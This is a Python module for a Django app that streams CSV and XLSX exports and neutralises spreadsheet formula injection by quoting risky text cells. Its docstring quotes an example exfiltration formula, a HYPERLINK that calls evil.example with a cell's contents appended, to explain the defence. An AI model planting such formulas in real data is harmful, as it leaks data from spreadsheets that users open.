"""Streaming CSV and XLSX: rows go out as they are produced, so memory stays flat for millions.

CSV starts with a UTF-8 BOM so Excel opens Vietnamese text correctly.

Formula injection (OWASP "CSV injection"): a text cell beginning with `=`, `+`, `-`, `@`, TAB or
CR is a formula to a spreadsheet (`=HYPERLINK("http://evil.example/?"&A1,"Bấm")` as an
applicant's name), so every text cell written here, header included, that begins with one gets a
single quote in front. Only the export changes: the stored data stays as entered; numbers (negative
ones too) stay numbers. XLSX text also loses the control characters XML cannot hold.
"""
from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import FileResponse, StreamingHttpResponse

from onestop.text import without_forbidden

BOM = "\ufeff"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = frozenset("=+-@\t\r")


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: None empty, text that a spreadsheet would run as a formula quoted."""
    if isinstance(value, str):
        return "'" + value if value[:1] in FORMULA_START else value
    return "" if value is None else value


def xlsx_cell(value: Any) -> Any:
    """A value as an XLSX cell: as csv_cell (but None stays an empty cell), without the characters
    XML 1.0 cannot hold (openpyxl refuses them)."""
    if isinstance(value, str):
        value = without_forbidden(value)
        return "'" + value if value[:1] in FORMULA_START else value
    return value


class _Line:
    """A file-like sink for csv.writer that hands back what was just written."""

    def __init__(self) -> None:
        self.value = ""

    def write(self, text: str) -> None:
        self.value = text


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
    sink = _Line()
    writer = csv.writer(sink)
    writer.writerow([csv_cell(name) for name in header])
    buffer = [BOM + sink.value]
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
        buffer.append(sink.value)
        if len(buffer) >= 500:  # fewer, larger chunks: less per-chunk overhead in the WSGI server
            yield "".join(buffer).encode("utf-8")
            buffer = []
    yield "".join(buffer).encode("utf-8")


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(filename: str, sheet: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> FileResponse:
    """openpyxl's write-only mode keeps one row in memory; the workbook is spooled to a temp file."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet[:31])
    worksheet.append([xlsx_cell(name) for name in header])
    for row in rows:
        worksheet.append([xlsx_cell(value) for value in row])
    spool = tempfile.TemporaryFile()
    workbook.save(spool)
    spool.seek(0)
    return FileResponse(spool, as_attachment=True, filename=filename, content_type=XLSX_TYPE)


def flatten(record: dict[str, Any], prefix: str = "") -> dict[str, Any]:
    """Nested indicator dicts → flat columns (`on_time_rate.numerator`, ...)."""
    flat: dict[str, Any] = {}
    for key, value in record.items():
        name = f"{prefix}{key}"
        if isinstance(value, dict):
            flat.update(flatten(value, name + "."))
        else:
            flat[name] = value
    return flat


__all__ = ["csv_cell", "csv_response", "flatten", "io", "xlsx_cell", "xlsx_response"]
